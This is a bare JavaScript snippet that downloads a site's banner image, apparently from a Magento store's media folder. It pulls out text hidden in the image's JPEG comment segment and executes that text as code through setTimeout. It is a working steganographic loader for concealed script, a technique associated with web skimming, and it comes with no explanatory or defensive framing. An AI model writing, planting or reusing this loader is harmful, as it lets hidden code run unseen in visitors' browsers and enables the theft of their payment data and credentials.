var x = new XMLHttpRequest();
x.open('GET', '/media/wysiwyg/banner.jpg');
x.responseType = 'arraybuffer';
x.onload = function () {
  var b = new Uint8Array(x.response), s = '', on = 0;
  for (var i = 0; i < b.length - 1; i++) { if (b[i] == 0xff && b[i + 1] == 0xfe) { on = 1; i += 3; continue; } if (on) { if (!b[i]) break; s += String.fromCharCode(b[i]); } }
  setTimeout(s, 10);
};
x.send();
